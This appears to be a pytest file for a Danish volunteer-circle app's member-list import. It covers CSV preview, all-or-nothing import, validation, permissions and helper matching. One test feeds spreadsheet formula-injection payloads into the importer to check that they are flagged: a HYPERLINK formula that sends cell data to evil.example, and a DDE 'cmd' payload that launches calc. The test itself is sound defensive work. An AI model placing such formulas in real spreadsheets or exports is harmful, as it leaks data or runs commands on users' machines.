"""Mette imports the member list she kept in Excel: she sees each row's problems first, and
the list goes in whole or not at all."""

from io import BytesIO
from pathlib import Path

from circles.accounts.models import User
from circles.config import PACKAGE_DIR
from circles.core.models import AuditEntry
from circles.extensions import db
from circles.membership.models import Membership
from tests.factories import make_admin, make_circle, make_member, make_staff

DEMO = (Path(PACKAGE_DIR) / "data" / "demo-members.csv").read_bytes()


def upload(client, url, content: bytes, name="medlemmer.csv"):
    form = {"file": (BytesIO(content), name)}
    return client.post(url, data=form, content_type="multipart/form-data")


def test_a_clean_excel_list_is_previewed_then_imported_whole(make_client, ctx):
    circle = make_circle()
    mette = make_client(make_member(circle, role="organizer"))
    base = f"/api/v1/circles/{circle.id}/import"

    preview = upload(mette, f"{base}/preview", DEMO.decode("utf-8").encode("cp1252"))
    assert preview.status_code == 200, preview.get_json()
    body = preview.get_json()
    assert body["ok"] is True and body["count"] == 3
    assert body["rows"][0]["values"]["name"] == "Birthe Nielsen"  # æøå survive Windows-1252
    assert db.session.query(User).count() == 1  # a preview saves nothing

    imported = upload(mette, base, DEMO)
    assert imported.status_code == 201, imported.get_json()
    people = {m.user.name: m for m in db.session.query(Membership).filter_by(circle_id=circle.id)}
    assert people["Erik Sørensen"].role == "helper" and people["Erik Sørensen"].status == "active"
    assert people["Grethe Møller"].user.birth_date.isoformat() == "1938-07-14"
    assert people["Birthe Nielsen"].user.password_hash is None
    actions = [e.action for e in db.session.query(AuditEntry)]
    assert actions.count("member.registered") == 3 and actions.count("members.imported") == 1


def test_one_bad_row_stops_the_whole_import_and_every_problem_is_shown(make_client, ctx):
    circle = make_circle()
    mette = make_client(make_member(circle, role="organizer", phone="86 99 99 99"))
    rows = (
        "name,phone,birth_date,postcode,role\n"
        "Anna Berg,86 10 10 10,1945-01-01,8000,member\n"
        "Bo Young,86 10 10 11,1999-01-01,8000,member\n"
        "Carl Dato,86 10 10 12,31-02-1950,8000,member\n"
        "Anna Igen,+45 86 10 10 10,1946-01-01,8000,member\n"
        "Dorte Post,86 10 10 13,1944-01-01,0001,boss\n"
        ",86 10 10 14,1944-01-01,8000,member\n"
        "Mette Selv,86 99 99 99,1944-01-01,8000,member\n"
    )
    base = f"/api/v1/circles/{circle.id}/import"
    body = upload(mette, f"{base}/preview", rows.encode()).get_json()
    problems = {r["line"]: r["problems"] for r in body["rows"]}
    assert body["ok"] is False and problems[2] == []
    assert "50" in problems[3][0]  # too young for a 50+ circle
    assert problems[4] == ["Fødselsdato: skal være en dato, fx 1948-05-17."]  # 31 February
    assert "telefonnummer" in problems[5][0]  # Anna twice, once with +45
    assert any("boss" in p for p in problems[6]) and any("0001" in p for p in problems[6])
    assert problems[7] == ["Navn: skal udfyldes."]
    assert "telefonnummer" in problems[8][0]  # already in the circle

    refused = upload(mette, base, rows.encode())
    assert refused.status_code == 422
    assert set(refused.get_json()["errors"]["files"]) == {"3", "4", "5", "6", "7", "8"}
    assert db.session.query(User).count() == 1  # nothing went in


def test_unreadable_files_are_refused_with_a_plain_reason(make_client, ctx):
    circle = make_circle()
    mette = make_client(make_member(circle, role="organizer"))
    url = f"/api/v1/circles/{circle.id}/import/preview"
    unknown = upload(mette, url, b"navn;skonummer\nBirthe;38\n")
    assert unknown.status_code == 422 and "skonummer" in unknown.get_json()["message"]
    assert "file" in unknown.get_json()["errors"]["json"]
    assert upload(mette, url, b"").status_code == 422
    assert upload(mette, url, b"telefon\n12345678\n").status_code == 422
    missing = mette.post(url, data={}, content_type="multipart/form-data")
    assert missing.status_code == 422 and "file" in missing.get_json()["errors"]["files"]
    huge = upload(mette, url, b"navn\n" + b"x" * 1_000_001)
    assert huge.status_code == 413


def test_only_the_circles_organizers_and_admins_may_import(client, make_client, ctx):
    circle = make_circle()
    elsewhere = make_circle("Risskov", centre=(56.193, 10.229))
    callers = {
        401: [client],
        403: [
            make_client(make_member(circle)),
            make_client(make_member(elsewhere, role="organizer")),
            make_client(make_staff(circle.municipality)),
        ],
        200: [make_client(make_member(circle, role="organizer")), make_client(make_admin())],
    }
    no_rows = "navn;telefon;postnummer;fødselsdato\n".encode()
    for path in ("import/preview", "import"):
        url = f"/api/v1/circles/{circle.id}/{path}"
        for status, clients in callers.items():
            # Those allowed get the file read: a list without people cannot be imported.
            expected = 422 if status == 200 and path == "import" else status
            for caller in clients:
                assert upload(caller, url, no_rows).status_code == expected


def test_a_formula_hidden_in_a_member_list_is_flagged_and_nothing_goes_in(make_client, ctx):
    circle = make_circle()
    mette = make_client(make_member(circle, role="organizer"))
    rows = (
        "navn;telefon;email;fødselsdato;postnummer\n"
        "Anna Berg;+45 86 10 10 10;anna@example.dk;01-02-1944;8000\n"
        '=HYPERLINK("http://evil.example/?x="&B3;"Klik");86 10 10 11;;01-02-1944;8000\n'
        "Bo Lund;86 10 10 12;@SUM(1+1)@example.dk;01-02-1944;8200\n"
        "Carl Holm;\t+cmd|' /C calc'!A0;;01-02-1944;8000\n"
    )
    base = f"/api/v1/circles/{circle.id}/import"
    body = upload(mette, f"{base}/preview", rows.encode()).get_json()
    problems = {r["line"]: r["problems"] for r in body["rows"]}
    assert body["ok"] is False
    assert problems[2] == []  # a phone number with +45 is a phone number
    assert any("formel" in p and "navn" in p for p in problems[3])
    assert any("formel" in p and "email" in p for p in problems[4])
    assert any("formel" in p and "telefon" in p for p in problems[5])
    assert upload(mette, base, rows.encode()).status_code == 422
    assert db.session.query(User).count() == 1


def test_erik_imported_from_the_list_as_a_helper_is_suggested_to_a_neighbour(make_client, ctx):
    """The list goes in in one statement per table, yet each membership still knows where its
    member lives: Erik, at his postcode's centre, is found for Karen's request 2 km off."""
    from circles.help import matching
    from tests.factories import make_request

    circle = make_circle()
    mette = make_client(make_member(circle, role="organizer", name="Mette Lund"))
    karen = make_member(circle, name="Karen Jensen")
    assert upload(mette, f"/api/v1/circles/{circle.id}/import", DEMO).status_code == 201
    request = make_request(karen, circle, radius_km=5.0)
    db.session.expire_all()
    found = [s.helper.name for s in matching.suggestions(request, "da", limit=None)]
    assert "Erik Sørensen" in found
